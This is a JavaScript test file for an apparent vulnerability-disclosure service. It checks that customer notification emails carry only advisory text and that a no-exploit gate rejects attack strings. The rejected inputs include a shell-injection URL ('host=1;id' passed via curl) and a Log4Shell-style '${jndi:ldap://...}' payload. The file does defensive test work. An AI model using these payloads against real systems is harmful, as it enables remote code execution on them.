// The publication gates on the outbound paths of unpublished details (issue
// 10 item 2) that are not exports (exports-provider.test.mjs) or federation
// (federation.test.mjs, "no foreign recipient on any outbound path"): the
// email to customers (R-FIX-NOTIFY), who are no party of the case, carries
// advisory text only and passes the no-exploit gate (R-PUB-4). The outbox
// worker is off, so the queued emails are read from the outbox as the
// worker would send them.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { dbDigest, sharedServer, sqlRows } from './lib/server.mjs';
import { acceptedCase, createOrg, createProduct, moveCase, uniq } from './lib/fixtures.mjs';

describe('user notices to customers: advisory text only, no exploit', () => {
  let server, admin, anon, product;
  sharedServer((s) => ({ server, admin, anon } = s),
    { env: { LOUDONG_NOTIFY_ENABLED: 'true', LOUDONG_NOTIFY_WORKER: 'false', LOUDONG_NOTIFY_PUBLIC_URL: 'https://vd.example.cn' } });
  const queued = (caseId) => sqlRows(server.db,
    `SELECT target, payload FROM outbox WHERE event = 'user_notice' AND subject_id = ${caseId} ORDER BY id`)
    .map((r) => ({ to: r.target, ...JSON.parse(r.payload) }));

  before(async () => {
    const org = await createOrg(admin, { name: uniq('Acme ') });
    product = await createProduct(admin, org.id, {
      customers: [
        { name: 'Downstream One', contact: 'ops@one.example.cn' },
        { name: 'Downstream Two', contact: 'sec@two.example.cn' },
      ],
    });
  });

  async function fixedCase() {
    const { caseId } = await acceptedCase(admin, anon, { product_id: product.id });
    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
    return caseId;
  }

  it('exploit-like text in the risk or the fix is refused, naming the field; nothing is queued', async () => {
    const caseId = await fixedCase();
    const before = dbDigest(server.dataDir);
    const r = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {
      risk_en: 'remote code execution', risk_zh: '远程代码执行',
      fix_en: 'Upgrade to 1.2. To check: curl "http://192.0.2.1/cgi-bin/diag.cgi?host=1;id"', fix_zh: '升级到 1.2' });
    assert.equal(r.status, 409, r.text);
    assert.equal(r.json.error.code, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
    assert.match(r.json.error.message, /fix_en: url_shell_metachar/);
    assert.match(r.json.error.message, /R-PUB-4/);
    assert.deepEqual(dbDigest(server.dataDir), before, 'a refusal changes nothing');
    const poc = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {
      risk_zh: '利用代码：${jndi:ldap://x.example/a}', fix_en: 'Upgrade to 1.2.' });
    assert.equal(poc.status, 409, poc.text);
    assert.match(poc.json.error.message, /risk_zh: payload/);
    assert.deepEqual(queued(caseId), []);
  });

  it('plain text is sent to each customer', async () => {
    const caseId = await fixedCase();
    const r = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {
      risk_en: 'A crafted request to the diagnostics page runs commands.', fix_en: 'Upgrade to 1.2.' });
    assert.equal(r.status, 202, r.text);
    assert.equal(r.json.queued, 2);
    const mails = queued(caseId);
    assert.deepEqual(mails.map((m) => m.to), ['ops@one.example.cn', 'sec@two.example.cn']);
    assert.match(mails[0].text, /Upgrade to 1\.2\./);
  });

  it('without text: the advisory\'s summary, impact and solution, never the report\'s details', async () => {
    const caseId = await fixedCase();
    let r = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {});
    assert.equal(r.status, 422, r.text);
    assert.deepEqual(r.json.error.details.fields.map((f) => f.field).sort(), ['fix_zh', 'risk_zh']);
    r = await admin.post(`/api/v1/cases/${caseId}/advisory`);
    assert.equal(r.status, 201, r.text);
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, {
      zh: { summary: '诊断页面的参数未经过滤。', impact: '远程攻击者可执行命令。', solution: '升级到 1.2 版。' },
      en: { summary: 'The diagnostics page passes a parameter unfiltered.', solution: 'Upgrade to 1.2.' } });
    assert.equal(r.status, 200, r.text);
    r = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {});
    assert.equal(r.status, 202, r.text);
    assert.equal(r.json.queued, 2);
    const [m] = queued(caseId);
    assert.match(m.text, /诊断页面的参数未经过滤。\n\n远程攻击者可执行命令。/);
    assert.match(m.text, /升级到 1\.2 版。/);
    assert.match(m.text, /The diagnostics page passes a parameter unfiltered\./);
    const { title } = (await admin.get(`/api/v1/cases/${caseId}`)).json;
    assert.ok(title && !m.text.includes(title), 'the case title (the finder\'s words) stays in the case');
  });

  it('an advisory quoting an attack is not mailed to customers', async () => {
    const caseId = await fixedCase();
    let r = await admin.post(`/api/v1/cases/${caseId}/advisory`);
    assert.equal(r.status, 201, r.text);
    r = await admin.patch(`/api/v1/cases/${caseId}/advisory`, {
      en: { summary: 'Injection in the host parameter.', solution: 'Upgrade. Test with http://192.0.2.1/diag?host=1;id' } });
    assert.equal(r.status, 200, r.text);
    r = await admin.post(`/api/v1/cases/${caseId}/user-notices/emails`, {});
    assert.equal(r.status, 409, r.text);
    assert.match(r.json.error.message, /fix_en: url_shell_metachar/);
    assert.deepEqual(queued(caseId), []);
  });
});
